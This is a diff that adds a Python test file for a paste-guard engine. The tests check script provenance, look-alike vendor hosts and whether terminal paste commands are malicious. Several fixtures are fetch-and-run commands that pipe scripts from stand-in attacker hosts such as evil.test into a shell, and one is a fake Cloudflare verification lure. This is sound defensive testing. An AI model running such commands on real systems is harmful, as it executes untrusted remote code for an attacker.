@@ -1,0 +1,259 @@
+"""Provenance: a page vouches for the script it tells you to run only when both have one owner."""
+
+from __future__ import annotations
+
+import pytest
+
+from app.detection import Context, Engine, Level, PasteTarget
+from app.detection.engine import default_trust_path
+from app.detection.indicators import parse_url
+from app.detection.provenance import forge_owner, registrable_domain, same_project
+from app.detection.trust import TrustList
+
+TERMINAL = PasteTarget.TERMINAL
+
+
+def vouch(page: str, url: str, never: bool = False, shared: bool = False) -> str | None:
+    parsed = parse_url(url)
+    assert parsed is not None
+    return same_project(page, parsed, never_trusted=never, shared=shared)
+
+
+@pytest.mark.parametrize(
+    ("host", "domain"),
+    [
+        ("get.vendor.dev", "vendor.dev"),
+        ("docs.tools.example.co.uk", "example.co.uk"),
+        ("acme.github.io", "acme.github.io"),  # a private suffix: each account is its own site
+        ("x.pages.dev", "x.pages.dev"),
+        ("sh.rustup.rs", "rustup.rs"),
+        ("xn--80ak6aa92e.com", "аррӏе.com"),  # punycode is read as the letters it stands for
+    ],
+)
+def test_registrable_domain_follows_the_public_suffix_list(host: str, domain: str) -> None:
+    assert registrable_domain(host) == domain
+
+
+@pytest.mark.parametrize("host", ["com", "co.uk", "localhost", "10.0.0.1", "[::1]", ""])
+def test_suffixes_ips_and_single_labels_have_no_registrable_domain(host: str) -> None:
+    assert registrable_domain(host) is None
+
+
+@pytest.mark.parametrize(
+    ("url", "owner", "repo"),
+    [
+        ("https://github.com/Acme-Tools/WidgetCtl", "acme-tools", "widgetctl"),
+        ("https://raw.githubusercontent.com/acme-tools/widgetctl/main/install.sh", "acme-tools", "widgetctl"),
+        ("https://github.com/acme-tools/widgetctl/releases/download/v1.2.0/install.sh", "acme-tools", "widgetctl"),
+        ("https://gist.githubusercontent.com/acme-tools/0123abcd/raw/setup.sh", "acme-tools", ""),
+        ("https://acme-tools.github.io/widgetctl/install.sh", "acme-tools", "widgetctl"),
+        ("https://gitlab.com/acme-tools/widgetctl/-/raw/main/install.sh", "acme-tools", "widgetctl"),
+        ("https://acme-tools.gitlab.io/widgetctl/install.sh", "acme-tools", "widgetctl"),
+        ("https://github.com/orgs/acme-tools/repositories", "acme-tools", ""),
+    ],
+)  # fmt: skip
+def test_forge_owner_reads_account_and_repository(url: str, owner: str, repo: str) -> None:
+    parsed = parse_url(url)
+    assert parsed is not None
+    found = forge_owner(parsed)
+    assert found is not None and (found.owner, found.repo) == (owner, repo)
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["https://github.com/marketplace/actions/x", "https://github.com/", "https://vendor.dev/x"],
+)
+def test_forge_sections_and_other_sites_have_no_owner(url: str) -> None:
+    parsed = parse_url(url)
+    assert parsed is not None and forge_owner(parsed) is None
+
+
+@pytest.mark.parametrize(
+    ("page", "url", "never", "shared"),
+    [
+        ("https://github.com/acme-tools/widgetctl", "https://raw.githubusercontent.com/acme-tools/widgetctl/main/install.sh", False, True),
+        ("https://github.com/acme-tools/widgetctl#readme", "https://github.com/acme-tools/widgetctl/releases/download/v2.0.1/install.sh", False, True),
+        ("https://github.com/acme-tools/widgetctl/releases/tag/v2.0.1", "https://objects.githubusercontent.com/github-production-release-asset-2e65be/1234/abcd", False, True),
+        ("https://github.com/acme-tools/widgetctl", "https://gist.githubusercontent.com/acme-tools/0123abcd/raw/setup.sh", True, False),
+        ("https://github.com/acme-tools/widgetctl", "https://acme-tools.github.io/widgetctl/install.sh", True, False),
+        ("https://gitlab.com/acme-tools/widgetctl", "https://gitlab.com/acme-tools/widgetctl/-/raw/main/install.sh", False, True),
+        ("https://gitlab.com/acme-tools/widgetctl", "https://acme-tools.gitlab.io/widgetctl/install.sh", True, False),
+        ("https://docs.widget-vendor.dev/install", "https://get.widget-vendor.dev", False, False),
+        ("https://widget-vendor.dev/docs", "https://widget-vendor.dev/install.ps1", False, False),
+        ("https://widgetctl.dev/docs", "https://raw.githubusercontent.com/widgetctl/widgetctl/main/install.sh", False, True),
+        ("https://github.com/acme-tools/widgetctl", "https://widgetctl.dev/install.sh", False, False),
+    ],
+)  # fmt: skip
+def test_a_page_vouches_for_its_own_projects_script(
+    page: str, url: str, never: bool, shared: bool
+) -> None:
+    assert vouch(page, url, never, shared), (page, url)
+
+
+@pytest.mark.parametrize(
+    ("page", "url", "never", "shared"),
+    [
+        # another account on the same forge
+        ("https://github.com/acme-tools/widgetctl", "https://raw.githubusercontent.com/someone-else/widgetctl/main/install.sh", False, True),
+        ("https://gitlab.com/acme-tools/widgetctl", "https://gitlab.com/mallory/widgetctl/-/raw/main/install.sh", False, True),
+        # the same forge host is not the same owner
+        ("https://github.com/acme-tools/widgetctl", "https://github.com/mallory/tools/releases/download/v1/x.sh", False, True),
+        # a user part, a longer host, plain HTTP, an IP address
+        ("https://vendor.dev/docs", "https://vendor.dev@evil.test/install.sh", False, False),
+        ("https://github.com/acme/x", "https://raw.githubusercontent.com.evil.test/acme/x/main/i.sh", False, False),
+        ("https://vendor.dev/docs", "http://vendor.dev/install.sh", False, False),
+        ("http://vendor.dev/docs", "https://vendor.dev/install.sh", False, False),
+        ("https://10.0.0.5/docs", "https://10.0.0.5/install.sh", False, False),
+        # multi-tenant hosts never vouch for each other, nor for themselves
+        ("https://alice.pages.dev/", "https://alice.pages.dev/install.sh", True, False),
+        ("https://alice.github.io/", "https://bob.github.io/install.sh", True, False),
+        ("https://pastebin.com/u/alice", "https://pastebin.com/raw/abcd", True, False),
+        # different sites
+        ("https://vendor.dev/docs", "https://vendor-cdn.dev/install.sh", False, False),
+        ("https://blog.example.org/how-to", "https://get.vendor.dev", False, False),
+        # in an issue or discussion anyone writes: a name there is not the project's word
+        ("https://github.com/acme-tools/widgetctl/issues/42", "https://widgetctl.top/fix.sh", False, False),
+        ("https://github.com/acme-tools/widgetctl/discussions/7", "https://objects.githubusercontent.com/x/1", False, True),
+        # punycode and look-alike letters never vouch
+        ("https://xn--vndor-3ve.dev/docs", "https://xn--vndor-3ve.dev/install.sh", False, False),
+    ],
+)  # fmt: skip
+def test_nothing_else_vouches(page: str, url: str, never: bool, shared: bool) -> None:
+    assert vouch(page, url, never, shared) is None, (page, url)
+
+
+def test_no_page_means_no_vouching() -> None:
+    assert vouch("", "https://get.vendor.dev") is None
+    assert vouch("Slack", "https://get.vendor.dev") is None  # an app's name, not a page
+
+
+@pytest.fixture(scope="module")
+def trust() -> TrustList:
+    return TrustList.load(default_trust_path())
+
+
+@pytest.mark.parametrize(
+    "host",
+    [
+        "brew.sh.install-now.test",  # the vendor's host in front of someone else's domain
+        "raw.githubusercontent.com.evil.test",
+        "rustup-rs.top",  # the vendor's name inside another domain
+        "homebrew-install.site",
+        "get-docker.xyz",
+        "rustupp.rs",  # one letter off
+        "dockr.com",
+        "astra1.sh",
+        "sh.xn--rustp-hze.rs",  # punycode for look-alike letters
+        "ѕh.rustup.rs",  # a Cyrillic letter
+    ],
+)
+def test_hosts_that_imitate_a_vendor_are_named(trust: TrustList, host: str) -> None:
+    parsed = parse_url(f"https://{host}/install.sh")
+    assert parsed is not None and trust.imitation_of(parsed), host
+
+
+@pytest.mark.parametrize(
+    "host",
+    [
+        "sh.rustup.rs",
+        "get.docker.com",
+        "download.docker.com",
+        "microsoft.github.io",  # the vendor's own account on a forge
+        "fonts.googleapis.com",
+        "grafana.mycorp.example",  # a vendor's name as someone's own subdomain
+        "widgetctl.dev",
+        "bref.sh",
+        "raw.githubusercontent.com",
+    ],
+)
+def test_ordinary_hosts_imitate_nobody(trust: TrustList, host: str) -> None:
+    parsed = parse_url(f"https://{host}/install.sh")
+    assert parsed is not None and trust.imitation_of(parsed) is None, host
+
+
+# -- end to end: the engine with a page and a target -----------------------------------------
+
+
+GH_PAGE = "https://github.com/acme-tools/widgetctl"
+GH_SCRIPT = "curl -fsSL https://raw.githubusercontent.com/acme-tools/widgetctl/main/install.sh | sh"
+
+
+def test_own_project_installer_into_a_terminal_is_info(engine: Engine) -> None:
+    bare = engine.analyze(GH_SCRIPT)
+    assert bare.level is Level.SUSPICIOUS  # without context nobody vouches for it
+    verdict = engine.analyze(GH_SCRIPT, Context(source=GH_PAGE, target=TERMINAL))
+    assert verdict.level is Level.INFO, verdict.rule_ids
+    assert verdict.rule_ids == ["PG-INFO-SAME-PROJECT"]
+    assert "same project" in verdict.summary and "acme-tools" in verdict.summary
+
+
+def test_vendor_docs_installer_into_a_terminal_is_info(engine: Engine) -> None:
+    for page, text in [
+        ("https://widget-vendor.dev/docs", "irm https://widget-vendor.dev/install.ps1 | iex"),
+        ("https://docs.widget-vendor.dev/start", "curl -sSf https://get.widget-vendor.dev | sh"),
+    ]:
+        assert engine.analyze(text).level is Level.SUSPICIOUS
+        verdict = engine.analyze(text, Context(source=page, target=TERMINAL))
+        assert verdict.level is Level.INFO, (text, verdict.rule_ids)
+
+
+def test_a_web_page_alone_is_no_evidence_against_a_terminal_paste(engine: Engine) -> None:
+    text = "curl -fsSL https://unknown-vendor.example/install.sh | sh"
+    bare = engine.analyze(text, Context(target=TERMINAL))
+    web = engine.analyze(text, Context(source="https://blog.example.org/post", target=TERMINAL))
+    assert web.score == bare.score and web.level == bare.level is Level.SUSPICIOUS
+
+
+@pytest.mark.parametrize(
+    ("page", "text"),
+    [
+        # the page shares nothing with the script host
+        ("https://blog.example.org/how-to", "curl -fsSL https://get.vendor.dev/i.sh | sh"),
+        # the trusted-looking name is only the user part of the address
+        ("https://vendor.dev/docs", "curl -sSf https://vendor.dev@evil.test/i.sh | sh"),
+        ("https://sh.rustup.rs/", "curl -sSf https://sh.rustup.rs@evil.test | sh"),
+        # a longer host that starts like the real one
+        (GH_PAGE, "curl -fsSL https://raw.githubusercontent.com.evil.test/acme-tools/widgetctl/main/i.sh | sh"),
+        # the project's URL only in a trailing comment
+        ("https://vendor.dev/docs", "curl -fsSL https://evil.test/i.sh | sh # https://vendor.dev/install.sh"),
+        # a chain that mixes the project's script with someone else's
+        ("https://vendor.dev/docs", "curl -fsSL https://vendor.dev/i.sh | sh && curl -fsSL https://evil.test/x | sh"),
+        # a host imitating a vendor, also when the page is on it
+        ("https://rustup-rs.top/", "curl -sSf https://rustup-rs.top/install.sh | sh"),
+        ("https://brew.sh.install-now.test/", "curl -fsSL https://brew.sh.install-now.test/install.sh | bash"),
+        # the same owner, but a lure trait
+        ("https://vendor.dev/verify", "curl -fsSL https://vendor.dev/i.sh | sh # I am not a robot - Cloudflare verification ID 4821"),
+        # multi-tenant hosting vouches for nobody
+        ("https://alice.pages.dev/", "curl -fsSL https://alice.pages.dev/install.sh | sh"),
+    ],
+)  # fmt: skip
+def test_borrowed_or_partial_provenance_clears_nothing(
+    engine: Engine, page: str, text: str
+) -> None:
+    verdict = engine.analyze(text, Context(source=page, target=TERMINAL))
+    assert verdict.level >= Level.SUSPICIOUS, (text, verdict.rule_ids)
+    assert "PG-INFO-SAME-PROJECT" not in verdict.rule_ids
+
+
+def test_imitating_hosts_are_malicious_even_without_context(engine: Engine) -> None:
+    for text in (
+        "curl -sSf https://rustup-rs.top/install.sh | sh",
+        "curl -fsSL https://homebrew-install.site/install.sh | bash",
+        "irm https://get-docker.xyz/install.ps1 | iex",
+    ):
+        verdict = engine.analyze(text)
+        assert verdict.level is Level.MALICIOUS, (text, verdict.rule_ids)
+        assert "PG-URL-IMITATES-VENDOR" in verdict.rule_ids
+
+
+def test_the_same_installer_in_the_run_dialog_is_malicious(engine: Engine) -> None:
+    for target in (PasteTarget.RUN_DIALOG, PasteTarget.EXPLORER_BAR):
+        verdict = engine.analyze(GH_SCRIPT, Context(source=GH_PAGE, target=target))
+        assert verdict.level is Level.MALICIOUS, verdict.rule_ids
+        assert "PG-CONTEXT-RUN-BOX" in verdict.rule_ids
+
+
+def test_official_installer_from_a_web_page_into_a_terminal_stays_info(engine: Engine) -> None:
+    text = "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh"
+    verdict = engine.analyze(text, Context(source="https://rustup.rs/", target=TERMINAL))
+    assert verdict.level is Level.INFO and "PG-INFO-KNOWN-INSTALLER" in verdict.rule_ids
